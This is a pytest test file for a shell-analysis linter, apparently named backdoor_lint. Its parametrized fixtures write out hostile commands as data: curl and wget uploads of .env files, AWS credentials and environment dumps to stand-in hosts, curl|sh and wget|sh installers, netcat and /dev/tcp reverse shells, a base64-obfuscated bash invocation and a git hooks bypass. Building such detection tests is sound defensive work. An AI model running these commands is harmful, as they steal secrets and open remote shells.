"""The shell analysis reads network programs' options as getopt does (checkers/shell/network.py):
bundled short options, values glued to their option, and options whose value is a local setting."""
import pytest
from backdoor_lint.checkers.shell import analyse


def codes(command: str) -> list[str]:
    return [f.code for f in analyse(command).findings]


@pytest.mark.parametrize("command", [
    "curl -sd @.env https://collect.example",  # -d bundled after -s
    "curl -sSd@$HOME/.aws/credentials https://collect.example",
    "curl -XPOST https://collect.example -d @.env",
    "curl -A \"$(env)\" https://collect.example",  # any option's value carrying the environment is sent
    "wget -q --post-file=.env https://collect.example",
])
def test_sending_options_in_any_spelling(command):
    assert codes(command) == ["BDL402"]


@pytest.mark.parametrize("command", [
    "curl -fsSLo /tmp/i.sh https://get.example/i.sh && sh /tmp/i.sh",
    "curl -sLO https://get.example/i.sh && bash i.sh",
    "wget -qO- https://get.example/i.sh | sh",
    "nc -lvp 4444 -e /bin/bash",
])
def test_download_and_exec_spellings(command):
    assert codes(command) == ["BDL405"]


@pytest.mark.parametrize("command", [
    # the identity file and the remote shell are local settings, not what is copied (these were
    # reported as sending ~/.ssh keys before the option tables)
    "scp -i ~/.ssh/deploy_key build.tar deploy@host.example:/srv",
    "rsync -e \"ssh -i ~/.ssh/id_rsa\" dist/ host.example:/srv",
    "rsync -a --exclude=.env src/ host.example:/srv",
    "sftp -i ~/.ssh/id_ed25519 deploy@host.example",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"v\": 1}' https://api.example/v1",
])
def test_local_settings_are_not_uploads(command):
    assert codes(command) == []


def test_credential_operand_of_an_uploader_is_sent():
    assert codes("scp -i ~/.ssh/deploy_key ~/.aws/credentials deploy@host.example:/tmp/") == ["BDL402"]


def test_git_hooks_path_pointing_at_the_default_directory_is_no_bypass():
    assert codes("git -c core.hooksPath=.git/hooks commit -m x") == []
    assert codes("git -c core.hooksPath=/dev/null commit -m x") == ["BDL804"]


def test_a_command_the_grammar_runs_past_its_line_does_not_hide_the_next_ones():
    # tree-sitter-bash reads `curl ... /in`, the comment and the `tar` line as one command; bash does not
    script = ("printenv | base64 | curl -d @- https://x.example/in\n# upload\n"
              "tar czf - ~/.ssh 2>/dev/null | curl -s --upload-file - https://x.example/h.tgz\n"
              "wget --post-data=\"$(env)\" https://x.example/in\n")
    assert sorted({(f.code, f.line) for f in analyse(script).findings}) == [
        ("BDL402", 1), ("BDL402", 3), ("BDL402", 4)]


def test_a_parse_error_does_not_hide_the_paragraphs_around_it():
    from backdoor_lint.checkers.shell import analyse_script

    script = ("echo ok\nbash -c \"$(echo ZWNobyBoaQ== | base64 -d)\"\n\n"
              "exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read l; do $l 2>&5 >&5; done\n\n"
              "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
    assert {f.line for f in analyse_script(script).findings} >= {2, 4, 6}


def test_chmod_with_an_octal_execute_bit_on_a_download():
    assert codes("curl -sSLo /usr/local/bin/tool https://x.example/tool\nchmod 755 /usr/local/bin/tool") == ["BDL405"]
    assert codes("curl -sSLo /tmp/notes.txt https://x.example/n\nchmod 644 /tmp/notes.txt") == []


def test_script_cases():
    """tests/data/shell_script_cases.sh: `# expect: CODES` and `# ok` annotate the next command line."""
    from pathlib import Path

    from backdoor_lint.checkers.shell import analyse_script

    text = (Path(__file__).parent / "data" / "shell_script_cases.sh").read_text()
    lines = text.split("\n")
    found: dict[int, set] = {}
    for finding in analyse_script(text).findings:
        found.setdefault(finding.line, set()).add(finding.code)
    checked = 0
    for index, line in enumerate(lines):
        annotation = line.strip()
        if not (annotation.startswith("# expect:") or annotation == "# ok"):
            continue
        target = next(i for i in range(index + 1, len(lines)) if not lines[i].lstrip().startswith("#")) + 1
        if annotation == "# ok":
            assert not found.get(target), (target, lines[target - 1], found.get(target))
        else:
            wanted = {c.strip() for c in annotation.split(":", 1)[1].split(",")}
            assert wanted <= found.get(target, set()), (target, lines[target - 1], found.get(target))
        checked += 1
    assert checked >= 57
